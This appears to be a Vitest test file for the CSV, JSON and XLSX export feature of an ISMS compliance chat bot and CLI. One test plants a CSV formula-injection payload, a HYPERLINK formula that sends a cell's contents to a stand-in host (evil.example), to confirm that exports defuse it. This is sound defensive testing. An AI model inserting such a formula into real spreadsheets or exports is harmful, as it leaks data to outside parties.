import { createHash } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { readFile, readdir, rm } from 'node:fs/promises';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { asc, eq, sql } from 'drizzle-orm';
import {
  aiTools, auditEvents, auditFindings, interestedParties, controls, evidenceFileChunks, evidenceItems, evidenceRequests, managementReviews, people, poamExtensions, poamItems,
  policyAcknowledgements, policyVersions, reviewDecisions, riskAcceptances, risks, scopeChanges, suppliers, trainingAttestations, trainingCourses,
} from '../src/db/schema/index.js';
import { createTestDatabase, type TestDatabase } from './helpers/db.js';
import { chatSession } from './helpers/chat-exports.js';
import { createTestBot, type TestBot } from './helpers/bot.js';
import { answerTo, exampleRegister, pipedSession, runScript, type Register } from './helpers/process.js';
import { renderMessage } from '../adapters/slack/render.js';
import { cardActivity } from '../adapters/teams/cards.js';
import { loadExampleOrganisation } from '../src/import/example.js';
import { buildRouter } from '../src/commands.js';
import type { CommandRouter } from '../src/core/router.js';
import { toPlainText, type Block, type Reply } from '../src/core/reply.js';
import { ARTEFACTS } from '../src/domain/exports/artefacts.js';
import { csvText, writeExport, type ExportFormat } from '../src/domain/exports/write.js';
import { artefactDoc } from '../src/domain/exports/docs.js';
import { PROGRESS_AFTER_ROWS } from '../src/domain/exports/command.js';
import { InboundPipeline } from '../src/core/inbound.js';
import { createLogger } from '../src/log.js';
import type { Artefact, Row } from '../src/domain/exports/artefact.js';

/** A value that needs every kind of CSV quoting, and non-ASCII text. */
const AWKWARD = 'Müller, "the" auditor\nsaid: =1+1; ok';
const FILE = Buffer.from('%PDF-1.4 access review 2026-Q3\n');
const NOW = new Date('2026-12-02T09:00:00Z');

async function exportBytes(db: TestDatabase['db'], artefacts: readonly Artefact[], format: ExportFormat, period = {}): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await writeExport(db, artefacts, format, out, { now: NOW, period });
  return Buffer.concat(chunks);
}

interface Envelope { format: string; version: number; artefact: string; exportedAt: string; columns: { key: string; header: string; meaning: string }[]; rows: Row[] }
const jsonOf = (bytes: Buffer) => JSON.parse(bytes.toString('utf8')) as Envelope;

async function sheetsOf(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return book;
}

const headerRow = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as unknown[]).slice(1);

/** Fills every register the example organisation leaves empty, through the tables the commands write. */
async function addActivity(db: TestDatabase['db']): Promise<void> {
  const [lead] = await db.select().from(people).where(eq(people.email, 'iris@northwind.example'));
  const [board] = await db.select().from(people).where(eq(people.email, 'katrin.vogel@northwind.example'));
  const [risk] = await db.select().from(risks).orderBy(asc(risks.id)).limit(1);
  const [item] = await db.select().from(poamItems).orderBy(asc(poamItems.id)).limit(1);
  const [control] = await db.select().from(controls).orderBy(asc(controls.id)).limit(1);
  const [version] = await db.select().from(policyVersions).orderBy(asc(policyVersions.id)).limit(1);
  const [course] = await db.select().from(trainingCourses).orderBy(asc(trainingCourses.id)).limit(1);
  await db.insert(riskAcceptances).values({ riskId: risk.id, residualScoreAtDecision: 8, decision: 'accept', rationale: AWKWARD, decidedBy: board.id, decidedAt: new Date('2026-03-01T10:00:00Z') });
  await db.insert(poamExtensions).values({ ref: 'PEX-0001', itemId: item.id, previousDueOn: '2026-06-30', requestedDueOn: '2026-09-30', reason: 'vendor delay', requestedBy: lead.id, status: 'approved', decidedBy: board.id, decidedAt: new Date('2026-06-01T08:00:00Z') });
  await db.insert(auditFindings).values({ ref: 'AF-0001', type: 'major_nc', clause: 'A.5.15', description: AWKWARD, raisedBy: lead.id });
  const [review] = await db.insert(managementReviews).values({ ref: 'MR-0001', heldOn: '2026-05-04', attendees: [{ personId: board.id, name: board.name, roles: ['management_body'] }], inputs: 'audit results' }).returning();
  await db.insert(reviewDecisions).values({ reviewId: review.id, decision: 'fund MFA rollout', ownerId: lead.id, dueOn: '2026-08-01' });
  const [request] = await db.insert(evidenceRequests).values({ ref: 'EVR-0100', controlId: control.id, ownerId: lead.id, dueOn: '2026-09-30', cycle: '2026-Q3', status: 'submitted' }).returning();
  const [evidence] = await db.insert(evidenceItems).values({
    ref: 'EV-0100', requestId: request.id, controlId: control.id, revision: 1, submittedBy: lead.id, submittedAt: new Date('2026-09-20T09:00:00Z'),
    effectiveOn: '2026-09-20', fileName: 'access-review.pdf', fileSize: FILE.length, fileSha256: createHash('sha256').update(FILE).digest('hex'), channel: 'slack',
  }).returning();
  await db.insert(evidenceFileChunks).values({ itemId: evidence.id, seq: 0, bytes: FILE });
  await db.insert(policyAcknowledgements).values({ personId: lead.id, policyVersionId: version.id, contentSha256: version.contentSha256, channel: 'teams' });
  await db.insert(trainingAttestations).values({ personId: board.id, courseId: course.id, completedOn: '2026-02-10', expiresOn: '2027-02-10', channel: 'shell' });
  await db.insert(aiTools).values({ ref: 'AI-0100', name: 'ChatGPT', vendor: 'OpenAI', dataCategories: ['internal', 'customer'], declaredBy: lead.id, status: 'under_review' });
  await db.insert(scopeChanges).values({ ref: 'SC-0100', kind: 'new_ai_usage', subject: 'ChatGPT', subjectRef: 'AI-0100', declaredBy: lead.id });
  await db.update(suppliers).set({ criticalityTier: 'tier1_critical' }).where(eq(suppliers.id, (await db.select().from(suppliers).limit(1))[0].id));
}

describe('exports of the example organisation', () => {
  let t: TestDatabase;
  let router: CommandRouter;
  beforeAll(async () => {
    t = await createTestDatabase();
    expect(await loadExampleOrganisation(t.db, NOW)).toBe(true);
    await addActivity(t.db);
    router = buildRouter(t.db);
  });
  const { say, cleanUp } = chatSession(() => ({ db: t.db, router }), NOW);
  afterAll(async () => {
    await t?.destroy();
    await cleanUp();
  });

  it('exports every artefact as JSON in the versioned envelope, CSV that parses back to the same rows, and an XLSX sheet with the documented columns', async () => {
    for (const artefact of ARTEFACTS) {
      const json = jsonOf(await exportBytes(t.db, [artefact], 'json'));
      expect(json).toMatchObject({ format: 'isms-export', version: 1, artefact: artefact.name, exportedAt: NOW.toISOString() });
      expect(json.columns).toEqual(artefact.columns);
      expect(json.rows.length, `${artefact.name} has rows`).toBeGreaterThan(0);
      for (const row of json.rows) expect(Object.keys(row)).toEqual(artefact.columns.map((c) => c.key));

      const csv = parse(await exportBytes(t.db, [artefact], 'csv'), { bom: false }) as string[][];
      expect(csv[0]).toEqual(artefact.columns.map((c) => c.header));
      expect(csv.slice(1)).toEqual(json.rows.map((row) => artefact.columns.map((c) => csvText(row[c.key]))));

      const book = await sheetsOf(await exportBytes(t.db, [artefact], 'xlsx'));
      const sheet = book.getWorksheet(artefact.title)!;
      expect(headerRow(sheet)).toEqual(artefact.columns.map((c) => c.header));
      expect(sheet.rowCount).toBe(json.rows.length + 1);
    }
  });

  it('writes enums in words, dates in ISO 8601, and the evidence index with SHA-256 and size but never the file', async () => {
    const suppliersJson = jsonOf(await exportBytes(t.db, ARTEFACTS.filter((a) => a.name === 'suppliers'), 'json'));
    expect(suppliersJson.rows.map((r) => r.criticalityTier)).toContain('tier 1 (critical)');
    const findings = jsonOf(await exportBytes(t.db, ARTEFACTS.filter((a) => a.name === 'findings'), 'json'));
    expect(findings.rows[0]).toMatchObject({ ref: 'AF-0001', type: 'major nonconformity', description: AWKWARD });
    expect(String(findings.rows[0].createdAt)).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);

    const evidence = await exportBytes(t.db, ARTEFACTS.filter((a) => a.name === 'evidence'), 'json');
    expect(jsonOf(evidence).rows[0]).toMatchObject({
      ref: 'EV-0100', request: 'EVR-0100', fileName: 'access-review.pdf', fileSize: FILE.length,
      fileSha256: createHash('sha256').update(FILE).digest('hex'), submittedAt: '2026-09-20T09:00:00.000Z', channel: 'slack',
    });
    expect(evidence.toString('utf8')).not.toContain('access review 2026-Q3');

    // The audit trail holds entries as they were recorded; every other artefact speaks in words.
    const everything = (await Promise.all(ARTEFACTS.filter((a) => a.name !== 'audit-trail').map((a) => exportBytes(t.db, [a], 'csv')))).join('');
    expect(everything).not.toMatch(/tier\d_|major_nc|new_ai_usage|under_review/);
  });

  it('selects rows by the artefact\'s date with --from and --to, both days included', async () => {
    const findings = ARTEFACTS.filter((a) => a.name === 'training');
    expect(jsonOf(await exportBytes(t.db, findings, 'json', { from: '2026-02-10', to: '2026-02-10' })).rows).toHaveLength(1);
    expect(jsonOf(await exportBytes(t.db, findings, 'json', { from: '2026-02-11' })).rows).toHaveLength(0);
    const acceptances = ARTEFACTS.filter((a) => a.name === 'risk-acceptances');
    expect(jsonOf(await exportBytes(t.db, acceptances, 'json', { to: '2026-03-01' })).rows).toHaveLength(1);
    expect(jsonOf(await exportBytes(t.db, acceptances, 'json', { to: '2026-02-28' })).rows).toHaveLength(0);
  });

  it('gives one workbook with a sheet per artefact for "all"', async () => {
    const book = await sheetsOf(await exportBytes(t.db, ARTEFACTS, 'xlsx'));
    expect(book.worksheets.map((s) => s.name)).toEqual(ARTEFACTS.map((a) => a.title));
    for (const artefact of ARTEFACTS) expect(headerRow(book.getWorksheet(artefact.title)!)).toEqual(artefact.columns.map((c) => c.header));
  });

  it('hands the ISMS lead the file in chat and audits who exported what, in which format, how many rows', async () => {
    const before = (await t.db.select().from(auditEvents)).length;
    const answer = await say('iris@northwind.example', '/isms export suppliers csv');
    expect(answer.outcome).toBe('recorded');
    const file = answer.blocks.find((b): b is Extract<Block, { type: 'file' }> => b.type === 'file')!.file;
    expect(file).toMatchObject({ name: 'suppliers-2026-12-02.csv', mimeType: 'text/csv', title: 'Supplier register (CSV, 2 rows)' });
    const rows = parse(readFileSync(file.path)) as string[][];
    expect(rows).toHaveLength(3);
    const events = await t.db.select().from(auditEvents).orderBy(asc(auditEvents.seq));
    expect(events).toHaveLength(before + 1);
    expect(events.at(-1)).toMatchObject({ action: 'export', entity: 'export', entityRef: 'suppliers', actorLabel: expect.stringContaining('iris@northwind.example'), after: { format: 'csv', rows: { suppliers: 2 } } });

    // Slack sends the file before rendering (slack-files.test.ts); rendered as it is, the reply names it.
    expect(JSON.stringify(renderMessage(answer))).toContain('📎 Supplier register (CSV, 2 rows): suppliers-2026-12-02.csv');
    // Teams offers files in the personal chat (teams-files.test.ts); a card on its own says so.
    expect(JSON.stringify(cardActivity(answer))).toContain('Supplier register (CSV, 2 rows): I can send files only in our personal chat');

    const board = await say('katrin.vogel@northwind.example', '/isms export all');
    expect(toPlainText(board)).toContain(`All artefacts (${ARTEFACTS.length} sheets) (XLSX,`);
  });

  it('refuses staff in chat and writes nothing; names the artefact meant when one is misspelt', async () => {
    const before = (await t.db.select().from(auditEvents)).length;
    const refused = await say('sam.novak@northwind.example', '/isms export risks');
    expect(refused.outcome).toBe('refused');
    expect(toPlainText(refused)).toContain('Only the ISMS lead, an auditor or the management body may use "/isms export"');
    expect(refused.blocks.some((b) => b.type === 'file')).toBe(false);
    expect(await t.db.select().from(auditEvents)).toHaveLength(before);

    expect(toPlainText(await say('iris@northwind.example', '/isms export risk'))).toMatch(/there is no artefact "risk" \(did you mean "risks"\?\)/);
    expect(toPlainText(await say('iris@northwind.example', '/isms export poam pdf'))).toContain('must be csv, json or xlsx');
    expect(await t.db.select().from(auditEvents)).toHaveLength(before);
  });

  it('documents every column of every artefact in docs/exports.md, linked from the README', async () => {
    const docs = await readFile(path.join(import.meta.dirname, '../docs/exports.md'), 'utf8');
    for (const artefact of ARTEFACTS) expect(docs).toContain(artefactDoc(artefact));
    expect(docs).toContain(`An export past ${PROGRESS_AFTER_ROWS.toLocaleString('en')} rows says once`);
    expect(docs).toContain('A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading apostrophe');
    expect(await readFile(path.join(import.meta.dirname, '../README.md'), 'utf8')).toContain('(docs/exports.md)');
  });
});

describe('a register bigger than one page', () => {
  let t: TestDatabase;
  beforeAll(async () => { t = await createTestDatabase(); });
  afterAll(async () => { await t?.destroy(); });

  it('exports every row once, in order, across pages, in every format', async () => {
    const names = Array.from({ length: 1234 }, (_, i) => `Party ${String(i + 1).padStart(4, '0')}`);
    await t.db.insert(interestedParties).values(names.map((name) => ({ name, kind: 'customer' })));
    const parties = ARTEFACTS.filter((a) => a.name === 'interested-parties');
    expect(jsonOf(await exportBytes(t.db, parties, 'json')).rows.map((r) => r.name)).toEqual(names);
    expect((parse(await exportBytes(t.db, parties, 'csv')) as string[][]).slice(1).map((r) => r[0])).toEqual(names);
    expect((await sheetsOf(await exportBytes(t.db, parties, 'xlsx'))).getWorksheet('Interested parties')!.rowCount).toBe(names.length + 1);
  });
});

describe('exports made in chat', () => {
  let bot: TestBot;
  const written: string[] = [];
  beforeAll(async () => { bot = await createTestBot(); });
  afterAll(async () => {
    await bot?.destroy();
    for (const file of written) await rm(path.dirname(file), { recursive: true, force: true });
  });
  const fileOf = (answer: Reply) => {
    const file = answer.blocks.find((b): b is Extract<Block, { type: 'file' }> => b.type === 'file')!.file;
    written.push(file.path);
    return file;
  };

  it('tells the person once that a long export is on its way, and says nothing about a small one', async () => {
    const pipeline = new InboundPipeline(bot.t.db, bot.router, createLogger('silent'));
    const [lead] = await bot.t.db.select().from(people).where(eq(people.id, bot.ids.lead));
    const progress = vi.fn(async (_message: string) => {});
    const exportParties = async () => (await pipeline.handle({
      from: { person: lead }, channel: 'test', request: { line: '/isms export interested-parties csv' }, progress,
    })).reply;
    const addParties = (n: number) => bot.t.db.execute(sql`insert into ${interestedParties} (name, kind) select 'Party ' || g, 'customer' from generate_series(1, ${n}::int) g`);

    await addParties(3);
    expect(toPlainText(await exportParties())).toContain('Interested parties (CSV, 3 rows)');
    expect(progress).not.toHaveBeenCalled();

    await addParties(PROGRESS_AFTER_ROWS + 1 - 3);
    const long = await exportParties();
    expect(fileOf(long).title).toBe(`Interested parties (CSV, ${PROGRESS_AFTER_ROWS + 1} rows)`);
    expect(progress).toHaveBeenCalledTimes(1);
    expect(progress).toHaveBeenCalledWith('Your export of Interested parties is on its way: over 5,000 rows so far; the file follows when it is complete.');
  });

  it('writes text a spreadsheet would run as a formula behind an apostrophe in CSV, and as plain text in XLSX and JSON', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"invoice")';
    expect((await bot.say('staff', `/isms declare supplier '${hostile}' "office printing" --ict no --critical no --data internal`)).outcome).toBe('recorded');
    expect((await bot.say('staff', `/isms declare ai '@SUM(1+1)' "-2 drafts a day" --data internal --users 3`)).outcome).toBe('recorded');

    const supplierCsv = parse(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers csv')).path)) as string[][];
    expect(supplierCsv[1][supplierCsv[0].indexOf('Name')]).toBe(`'${hostile}`);
    const aiCsv = parse(readFileSync(fileOf(await bot.say('lead', '/isms export ai-tools csv')).path)) as string[][];
    expect(aiCsv[1][aiCsv[0].indexOf('Name')]).toBe("'@SUM(1+1)");
    expect(aiCsv[1][aiCsv[0].indexOf('Purpose')]).toBe("'-2 drafts a day");
    // A number is never taken for a formula, negative or not; only text is guarded.
    expect([csvText(-2), csvText('+49 30 1234'), csvText('\tx'), csvText('\rx'), csvText('a=b')]).toEqual(['-2', "'+49 30 1234", "'\tx", "'\rx", 'a=b']);

    // exceljs writes a string cell as a string, never a formula, so XLSX needs no guard.
    const book = await sheetsOf(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers xlsx')).path));
    const sheet = book.getWorksheet('Supplier register')!;
    const cell = sheet.getRow(2).getCell(headerRow(sheet).indexOf('Name') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(hostile);
    expect(cell.formula).toBeUndefined();

    expect(jsonOf(readFileSync(fileOf(await bot.say('lead', '/isms export suppliers json')).path)).rows[0].name).toBe(hostile);
  });
});

describe('npm run isms -- export', () => {
  let register: Register;
  beforeAll(async () => { register = await exampleRegister(); });
  afterAll(async () => { await register?.dispose(); });

  it('writes the file it names and the export folder it defaults to, as a child process', async () => {
    const out = path.join(register.cwd, 'reports', 'assets.json');
    const named = await runScript('src/cli.ts', ['export', 'assets', '--format', 'json', '--out', out], { env: register.env, cwd: register.cwd });
    expect(named.stderr).toBe('');
    expect(named.stdout).toContain(`Exported Assets (JSON, 4 rows) to ${out}`);
    expect(jsonOf(readFileSync(out)).rows).toHaveLength(4);
    const [event] = await register.withDb((db) => db.select().from(auditEvents).where(eq(auditEvents.action, 'export')));
    expect(event).toMatchObject({ entityRef: 'assets', actorLabel: expect.stringContaining('via command line'), after: { format: 'json', rows: { assets: 4 } } });

    const defaulted = await runScript('src/cli.ts', ['export', 'all', '--format', 'xlsx'], { env: { ...register.env, ISMS_EXPORT_DIR: 'auditor-pack' }, cwd: register.cwd });
    expect(defaulted.code).toBe(0);
    const [workbook] = await readdir(path.join(register.cwd, 'auditor-pack'));
    expect(workbook).toMatch(/^isms-export-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const book = await sheetsOf(readFileSync(path.join(register.cwd, 'auditor-pack', workbook)));
    expect(book.worksheets).toHaveLength(ARTEFACTS.length);
  });

  it('saves a chat export into the terminal\'s export folder and says where', async () => {
    const env = { ...register.env, ISMS_EXPORT_DIR: 'chat-exports' };
    const transcript = await pipedSession({ ...register, env }, '/isms export risks csv');
    const file = path.join(register.cwd, 'chat-exports', `risks-${new Date().toISOString().slice(0, 10)}.csv`);
    expect(answerTo(transcript, '/isms export risks csv')).toContain(`📎 Saved to ${file}`);
    expect((parse(readFileSync(file)) as string[][])[1][0]).toBe('R-0001');
  });

  it('says once in the terminal what it exported, and a second export that day gets a name of its own, the first file kept', async () => {
    const env = { ...register.env, ISMS_EXPORT_DIR: 'twice-exports' };
    const transcript = await pipedSession({ ...register, env }, '/isms export risks csv', '/isms export risks csv');
    const day = new Date().toISOString().slice(0, 10);
    const first = path.join(register.cwd, 'twice-exports', `risks-${day}.csv`);
    const second = path.join(register.cwd, 'twice-exports', `risks-${day}-2.csv`);
    const once = answerTo(transcript, '/isms export risks csv');
    expect(once.match(/Risk register \(CSV, 5 rows\)/g)).toHaveLength(1);
    expect(once).toContain(`📎 Saved to ${first}`);
    expect(once).not.toContain('from before is kept');
    const again = answerTo(transcript, '/isms export risks csv', transcript.indexOf(once) + once.length);
    expect(again).toContain(`📎 Saved to ${second} (${first} from before is kept)`);
    expect(readFileSync(first)).toEqual(readFileSync(second));
  });

  it('answers an unknown artefact, a bad format or date with one sentence and no stack (a usage error, status 2), and writes nothing', async () => {
    const cases: [string[], RegExp, number][] = [
      [['export', 'risk', '--format', 'csv'], /^There is no artefact "risk"\. Did you mean "risks"\?\nThe artefacts are all, risks, /, 2],
      [['export', 'risks', '--format', 'pdf'], /^There is no format "pdf": use csv, json or xlsx\.\n$/, 2],
      [['export', 'risks', '--from', '2026-02-30'], /^--from "2026-02-30" is not a date: write it as YYYY-MM-DD, e\.g\. 2026-01-31\.\n$/, 2],
      [['export', 'all', '--format', 'csv'], /^"export all" makes one workbook with a sheet per artefact, so it is XLSX only\./, 2],
    ];
    writeFileSync(path.join(register.cwd, 'not-a-folder'), '');
    cases.push([['export', 'risks', '--out', path.join(register.cwd, 'not-a-folder', 'risks.csv')],
      /^Cannot write the export to ".*not-a-folder\/risks\.csv": part of its path is a file, not a folder\.\nName a file in a folder you may write to with --out, or set ISMS_EXPORT_DIR\.\n$/, 1]);
    for (const [args, message, status] of cases) {
      const result = await runScript('src/cli.ts', args, { env: register.env, cwd: register.cwd });
      expect(result.code).toBe(status);
      expect(result.stderr).toMatch(message);
      expect(result.stderr).not.toMatch(/\n\s+at /);
    }
    expect(existsSync(path.join(register.cwd, 'exports'))).toBe(false);
  }, 120_000); // five processes
});
